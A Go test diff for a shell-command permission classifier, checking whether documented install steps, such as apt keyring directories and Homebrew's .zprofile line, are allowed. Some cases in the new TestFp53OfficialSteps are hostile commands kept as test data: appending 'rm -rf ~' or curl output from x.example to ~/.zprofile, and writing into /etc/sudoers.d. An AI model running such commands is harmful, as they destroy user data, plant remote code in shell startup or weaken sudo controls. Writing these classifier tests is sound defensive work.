@@ -75,3 +75,25 @@ func TestFp53Dotfiles(t *testing.T) {
 		{"cp ~/proj/.git/config ~/.gitconfig", dsl.Ask, dsl.Ask},
 	})
 }
+
+// TestFp53OfficialSteps: documented install steps the fresh hunt found
+// asked (Docker's and NodeSource's apt keyring directory, Homebrew's
+// post-install line, which appends an empty line first); another mode,
+// owner or directory and a non-static line still ask or block.
+func TestFp53OfficialSteps(t *testing.T) {
+	checkHoles(t, []holeCase{
+		{"sudo install -m 0755 -d /etc/apt/keyrings", dsl.Allow, dsl.Allow},
+		{"sudo install -d -m 0755 /usr/share/keyrings", dsl.Allow, dsl.Allow},
+		{"sudo install -m 0777 -d /etc/apt/keyrings", dsl.Ask, dsl.Ask},
+		{"sudo install -o u -m 0755 -d /etc/apt/keyrings", dsl.Ask, dsl.Ask},
+		{"sudo install -m 0755 -d /etc/apt", dsl.Ask, dsl.Ask},
+		{"sudo install -m 0755 -d /etc/apt/keyrings /etc", dsl.Ask, dsl.Ask},
+		{"sudo install -m 0755 -d /etc/sudoers.d/x", dsl.Block, dsl.Block},
+		{"sudo install -m 0755 /tmp/x /etc/apt/keyrings/k", dsl.Ask, dsl.Ask},
+		{`(echo; echo 'eval "$(/opt/homebrew/bin/brew shellenv)"') >> ~/.zprofile`, dsl.Allow, dsl.Ask},
+		{`{ echo; echo 'export EDITOR=vim'; } >> ~/.bashrc`, dsl.Allow, dsl.Ask},
+		{`(echo; echo 'rm -rf ~') >> ~/.zprofile`, dsl.Block, dsl.Block},
+		{`(echo; echo 'payload') >> ~/.zprofile`, dsl.Ask, dsl.Ask},
+		{`(echo; curl -s https://x.example/a) >> ~/.zprofile`, dsl.Ask, dsl.Ask},
+	})
+}
